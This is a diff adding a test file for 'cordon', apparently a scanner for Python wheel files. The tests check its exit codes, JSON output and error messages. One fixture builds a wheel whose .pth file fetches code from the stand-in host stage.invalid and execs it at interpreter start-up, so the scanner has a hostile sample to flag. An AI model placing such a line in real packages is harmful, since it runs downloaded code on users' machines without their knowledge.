@@ -1,0 +1,126 @@
+// The command as a shell runs it: exit codes, what goes to which stream, and a reader that has seen enough. Needs the build.
+import { execFile, spawn } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, describe, expect, test } from 'vitest';
+import { makeWheel } from './support/make-wheel.ts';
+
+const CLI = fileURLToPath(new URL('../dist/cli.js', import.meta.url));
+const folder = mkdtempSync(join(tmpdir(), 'cordon-cli-'));
+const at = (name: string): string => join(folder, name);
+const GOOD = at('demo-1.0.0-py3-none-any.whl');
+const START_UP = at('hook-1.0.0-py3-none-any.whl');
+
+mkdirSync(at('empty'));
+writeFileSync(GOOD, makeWheel({ 'demo/__init__.py': 'NAME = "demo"\n' }));
+writeFileSync(
+  START_UP,
+  makeWheel({
+    'hook/__init__.py': '',
+    'hook.pth': 'import os, urllib.request; exec(urllib.request.urlopen("https://stage.invalid/x").read())\n',
+  }),
+);
+
+afterAll(() => rmSync(folder, { recursive: true }));
+
+interface Ran {
+  readonly code: number;
+  readonly out: string;
+  readonly err: string;
+}
+
+function cordon(args: readonly string[], input = ''): Promise<Ran> {
+  return new Promise((resolve) => {
+    const env = { ...process.env, NO_COLOR: '1', CORDON_DATA_FOLDER: at('data') };
+    const child = execFile(process.execPath, [CLI, ...args], { cwd: folder, env }, (error, out, err) => {
+      resolve({ code: error === null ? 0 : Number(error.code), out, err });
+    });
+    child.stdin?.end(input);
+  });
+}
+
+const linesOf = (text: string): unknown[] =>
+  text
+    .split('\n')
+    .filter((line) => line !== '')
+    .map((line) => JSON.parse(line) as unknown);
+
+describe('cordon scan', () => {
+  test('exits 0 when all is allowed, with one JSON object a line', async () => {
+    const ran = await cordon(['scan', '--json', GOOD]);
+
+    expect(ran.code).toBe(0);
+    expect(linesOf(ran.out)).toMatchObject([
+      { file: GOOD, verdict: 'allow', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
+    ]);
+  });
+
+  test('exits 1 when something is not allowed, and goes on', async () => {
+    const ran = await cordon(['scan', '--json', START_UP, GOOD]);
+
+    expect(ran.code).toBe(1);
+    expect(linesOf(ran.out)).toHaveLength(2);
+    expect(ran.err).toBe('');
+  });
+
+  test('exits 2 for a file that cannot be had, scans the others, and says so on standard error', async () => {
+    const ran = await cordon(['scan', '--json', at('none.whl'), GOOD]);
+
+    expect(ran.code).toBe(2);
+    expect(linesOf(ran.out)).toMatchObject([{ file: GOOD }]);
+    expect(linesOf(ran.err)).toEqual([{ file: at('none.whl'), error: { message: 'cannot be read: ENOENT' } }]);
+  });
+
+  test('a folder without distribution files is a wrong call, not a success', async () => {
+    const ran = await cordon(['scan', at('empty')]);
+
+    expect(ran.code).toBe(2);
+    expect(ran.err).toContain('there is no distribution file');
+  });
+
+  test('paths that end with NUL are read by --null, and named as the cure without it', async () => {
+    const paths = `${GOOD}\0${START_UP}\0`;
+
+    const read = await cordon(['scan', '--json', '--files-from', '-', '--null'], paths);
+    const missed = await cordon(['scan', '--files-from', '-'], paths);
+
+    expect(linesOf(read.out)).toHaveLength(2);
+    expect(missed.code).toBe(2);
+    expect(missed.out).toContain('--null');
+  });
+
+  test('a reader that has seen enough ends it without a stack trace', async () => {
+    const child = spawn(process.execPath, [CLI, 'scan', '--json', '--jobs', '1', ...Array<string>(30).fill(GOOD)]);
+    let err = '';
+    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
+    child.stdout.once('data', () => child.stdout.destroy());
+
+    const code = await new Promise((resolve) => child.once('exit', resolve));
+
+    expect(err).toBe('');
+    expect(code).toBe(2);
+  });
+});
+
+describe('failures', () => {
+  test.each([
+    ['a wrong option', ['status', '--json', '--colour'], 2, 'unknown option'],
+    ['a setting that does not exist', ['config', 'check', '--json', '--set', 'listen.prot=1'], 2, 'listen.port'],
+    ['a project that nobody knows', ['remove', '--json', 'f00'], 1, 'there is no entry f00'],
+    ['an entry without a reason', ['allow', '--json', 'six'], 2, '--reason'],
+  ])('%s is JSON on standard error where JSON was asked for', async (_case, args, code, message) => {
+    const ran = await cordon(args);
+
+    expect(ran.code).toBe(code);
+    expect(ran.out).toBe('');
+    expect(linesOf(ran.err)).toMatchObject([{ error: { message: expect.stringContaining(message) as string } }]);
+  });
+
+  test('are one plain line otherwise', async () => {
+    const ran = await cordon(['remove', 'f00']);
+
+    expect(ran).toEqual({ code: 1, out: '', err: 'cordon: there is no entry f00\n' });
+  });
+});
